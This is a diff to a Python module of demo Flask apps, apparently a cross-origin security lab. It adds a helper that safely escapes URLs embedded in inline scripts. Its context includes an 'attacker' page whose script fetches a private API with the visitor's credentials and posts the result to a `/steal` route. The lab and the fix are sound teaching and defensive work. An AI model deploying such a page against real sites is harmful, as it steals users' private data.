@@ -6,6 +6,7 @@ Each returns a fresh Flask app; pass it to `serve`:
 """
 from __future__ import annotations
 
+import json
 import secrets
 from html import escape
 
@@ -160,7 +161,7 @@ def page_app(title: str = "Frontend", api_url: str = "http://localhost:8002") ->
 document.getElementById('origin').textContent = location.origin;
 async function go() {{
   const out = document.getElementById('out');
-  try {{ const r = await fetch({api_url!r} + '/api/public'); out.textContent = await r.text(); }}
+  try {{ const r = await fetch({_js_string(api_url)} + '/api/public'); out.textContent = await r.text(); }}
   catch (e) {{ out.textContent = String(e) + ' (see the DevTools console)'; }}
 }}
 </script>""",
@@ -189,7 +190,7 @@ def attacker_app(target_url: str = "http://localhost:8002/api/private") -> Flask
             "Totally harmless page",
             f"""<p>Nothing to see here.</p><pre id="out"></pre>
 <script>
-fetch({target_url!r}, {{credentials: 'include'}})
+fetch({_js_string(target_url)}, {{credentials: 'include'}})
   .then(r => r.text())
   .then(t => {{ document.getElementById('out').textContent = t;
                return fetch('/steal', {{method: 'POST', body: t}}); }})
@@ -203,6 +204,20 @@ fetch({target_url!r}, {{credentials: 'include'}})
         return "", 204
 
     return app
+
+
+def _js_string(value: str) -> str:
+    """``value`` as a JavaScript string literal that is safe inside an HTML ``<script>`` element.
+
+    A URL is whatever the caller passed, so it may hold anything. ``json.dumps`` gives a valid JavaScript literal,
+    and with ``ensure_ascii`` it escapes every non-ASCII character, U+2028 and U+2029 included (older JavaScript
+    engines end a line, and so the literal, there). The HTML parser reads a script's text before JavaScript does:
+    ``</script>`` in the value would end the script and ``<!--`` would change how the rest is read, so ``<`` and
+    ``>`` are written as ``\\u`` escapes, which JavaScript reads back as the same characters; ``&`` too, so the
+    literal holds no markup character at all (it stays safe where a parser does read entities, as in XHTML).
+    """
+    literal = json.dumps(str(value), ensure_ascii=True)
+    return literal.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
 
 
 def _page(title: str, body: str) -> str:
